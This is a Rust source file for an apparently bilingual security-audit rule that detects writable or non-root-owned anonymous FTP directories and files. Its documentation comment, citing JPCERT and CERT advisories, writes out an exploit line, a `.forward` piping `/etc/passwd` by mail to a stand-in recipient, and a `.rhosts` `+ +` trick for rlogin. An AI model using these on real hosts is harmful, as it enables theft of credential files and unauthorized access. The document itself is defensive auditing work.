//! # FT001 anon-ftp-root-writable
//!
//! ## What it finds
//! The anonymous FTP root (`~ftp`, the home of the `ftp` or `anonymous` account in the
//! audited root's `etc/passwd`) or one of its system directories (`bin`, `etc`, `dev`,
//! `usr`, `usr/lib`) that is owned by the ftp user, writable by the ftp user's group or
//! by everyone, or owned by anyone but root; and a file in `~ftp/bin` or `~ftp/etc`
//! (the `ls` the server runs, the `passwd` it shows) that the ftp user can write.
//!
//! ## Why it matters
//! This is the hole JPCERT-E-INF-97-0001 warns about (countermeasure 2): with `~ftp`
//! writable, an anonymous user uploads `~ftp/.forward` holding `|/bin/mail evil <
//! /etc/passwd`, mails `ftp@host`, and sendmail runs the command; or uploads `.rhosts`
//! with `+ +` and logs in with `rlogin`. A writable `~ftp/bin` or `~ftp/etc` lets them
//! replace the `ls` the server runs or the `passwd` it shows.
//!
//! ## Example
//! ```text
//! home/ftp: mode 0777, owner ftp, group ftp (owned by the ftp user and writable by it)
//! ```
//!
//! ## What to do
//! (2) `chown root ~ftp ~ftp/bin ~ftp/etc ...; chmod 555 ~ftp` (or 755), and give
//! uploads a separate write-only `incoming` directory (mode 1733, owned by root). Look
//! for `~ftp/.forward` and `~ftp/.rhosts` (FT003): if they exist, the hole was used.
//!
//! ## References
//! - JPCERT/CC JPCERT-E-INF-97-0001-01 (countermeasure 2)
//! - CERT Advisory CA-93:10 and its "Anonymous FTP configuration guidelines"
//! - COPS `ftp.chk`; Tiger `check_anonftp`
//! <!-- ja -->
//! # FT001 anon-ftp-root-writable
//!
//! ## 検出内容
//! Anonymous FTP のルート・ディレクトリ（`~ftp`。検査対象の `etc/passwd` にある `ftp` または
//! `anonymous` アカウントのホームディレクトリ）や、そのシステムディレクトリ（`bin`、`etc`、
//! `dev`、`usr`、`usr/lib`）のうち、ftp 利用者が所有しているもの、ftp 利用者のグループや
//! すべての利用者が書き込めるもの、root 以外が所有しているものを検出します。また、`~ftp/bin`
//! や `~ftp/etc` にあるファイル（サーバが実行する `ls`、サーバが見せる `passwd`）のうち、
//! ftp 利用者が書き込めるものも検出します。
//!
//! ## 重要な理由
//! これは JPCERT-E-INF-97-0001 が警告するセキュリティホールです（対策 (2)）。`~ftp` に書き込めると、
//! 匿名の利用者は `|/bin/mail evil < /etc/passwd` を書いた `~ftp/.forward` をアップロードして
//! `ftp@host` にメールを送り、sendmail にそのコマンドを実行させます。あるいは `+ +` を書いた
//! `.rhosts` をアップロードして `rlogin` でログインします。`~ftp/bin` や `~ftp/etc` に書き込めると、
//! サーバが実行する `ls` やサーバが見せる `passwd` を置き換えられます。
//!
//! ## 例
//! ```text
//! home/ftp: モード 0777、所有者 ftp、グループ ftp（ftp ユーザが所有し、書き込める）
//! ```
//!
//! ## 対処
//! (2) `chown root ~ftp ~ftp/bin ~ftp/etc ...; chmod 555 ~ftp`（または 755）を実行し、
//! アップロードには別の書き込み専用の `incoming` ディレクトリ（モード 1733、root の所有）を
//! 用意してください。`~ftp/.forward` と `~ftp/.rhosts` を探してください（FT003）。あれば、この
//! セキュリティホールは使われています。
//!
//! ## 参考
//! - JPCERT/CC JPCERT-E-INF-97-0001-01（対策 (2)）
//! - CERT Advisory CA-93:10 とその "Anonymous FTP configuration guidelines"
//! - COPS `ftp.chk`、Tiger `check_anonftp`

use super::{AnonArea, anon_areas, describe, join};
use crate::Context;
use kensa_core::{Finding, Kind, Localized, Outcome, Rule, RuleStatus, Severity, tr};

/// FT001: the anonymous FTP root or a system directory in it is writable.
pub static RULE: Rule = Rule {
    code: "FT001",
    name: "anon-ftp-root-writable",
    kind: Kind::AnonFtpWrite,
    outcome: Outcome::Exposure,
    severity: Severity::High,
    title: "Anonymous FTP root or its system directories writable or not owned by root",
    advice: "(2) Make the anonymous FTP root and its bin, etc, dev, usr directories owned by \
             root and not writable by ftp, its group or others (chmod 555 ~ftp); give uploads \
             a write-only incoming directory (mode 1733, owned by root).",
    status: RuleStatus::Stable,
    title_ja: "Anonymous FTP のルート・ディレクトリまたはそのシステムディレクトリが書き込み可\
             能、または root の所有でない",
    advice_ja: "(2) Anonymous FTP のルート・ディレクトリとその bin、etc、dev、usr ディレクトリ\
             を root の所有にし、ftp、そのグループ、その他の利用者が書き込めないようにしてくだ\
             さい（chmod 555 ~ftp）。アップロードには書き込み専用の incoming ディレクトリ（モ\
             ード 1733、root の所有）を用意してください。",
    since: "0.1.0",
    source: include_str!("ft001_root_writable.rs"),
};

/// The directories of an anonymous FTP area that must be root's, relative to `~ftp`.
pub const SYSTEM_DIRS: [&str; 6] = ["", "bin", "etc", "dev", "usr", "usr/lib"];

pub(crate) fn check(ctx: &mut Context<'_>) -> Vec<Finding> {
    let mut findings = Vec::new();
    for area in anon_areas(ctx) {
        check_area(ctx, &area, &mut findings);
    }
    findings
}

fn check_area(ctx: &mut Context<'_>, area: &AnonArea, findings: &mut Vec<Finding>) {
    for dir in SYSTEM_DIRS {
        let rel = join(&area.home, dir);
        // The home itself may be reached through links (/home -> /export/home); its
        // system subdirectories are judged as they are (a link there is not a directory
        // anyone can write through, and its target is judged where it lives).
        let meta = if dir.is_empty() {
            ctx.root.stat(&rel)
        } else {
            ctx.root.lstat(&rel)
        };
        let Ok(meta) = meta else { continue };
        if meta.kind != crate::FileKind::Dir {
            continue;
        }
        let ((reason, reason_ja), severity) = match area.write_access(&meta) {
            Some(reason) => (reason, Severity::High),
            None if meta.uid != 0 => (
                ("not owned by root", "root の所有ではない"),
                Severity::Medium,
            ),
            None => continue,
        };
        let mut finding = ctx.finding(&RULE);
        let shown = ctx.root.display(&rel);
        finding.set_title(tr!(
            "Anonymous FTP directory {shown} is {reason}",
            "Anonymous FTP のディレクトリ {shown}: {reason_ja}"
        ));
        finding.severity = severity;
        finding.subject.path = Some(shown.clone());
        finding.subject.users = vec![area.account.clone()];
        finding.count = 1;
        let Localized {
            en: mode,
            ja: mode_ja,
        } = describe(ctx, &meta);
        let text = tr!(
            "{shown}: {mode} ({reason})",
            "{shown}: {mode_ja}（{reason_ja}）"
        );
        finding.push_evidence(crate::file_evidence(&shown, text));
        finding.merge_key = shown;
        findings.push(finding);
    }
    // The files the server runs or shows (`bin/ls`, `etc/passwd`) deserve the same
    // protection as their directories (CA-93:10).
    for dir in ["bin", "etc"] {
        let rel_dir = join(&area.home, dir);
        let Ok(entries) = ctx.root.read_dir(&rel_dir) else {
            continue;
        };
        for entry in entries.iter().take(1000) {
            if entry.meta.kind != crate::FileKind::File {
                continue;
            }
            let Some((reason, reason_ja)) = area.write_access(&entry.meta) else {
                continue;
            };
            let rel = join(&rel_dir, &entry.name.to_string_lossy());
            let shown = ctx.root.display(&rel);
            let mut finding = ctx.finding(&RULE);
            finding.set_title(tr!(
                "Anonymous FTP file {shown} is {reason}",
                "Anonymous FTP のファイル {shown}: {reason_ja}"
            ));
            finding.subject.path = Some(shown.clone());
            finding.subject.users = vec![area.account.clone()];
            finding.count = 1;
            let Localized {
                en: mode,
                ja: mode_ja,
            } = describe(ctx, &entry.meta);
            let text = tr!(
                "{shown}: {mode} ({reason})",
                "{shown}: {mode_ja}（{reason_ja}）"
            );
            finding.push_evidence(crate::file_evidence(&shown, text));
            finding.merge_key = shown;
            findings.push(finding);
        }
    }
}
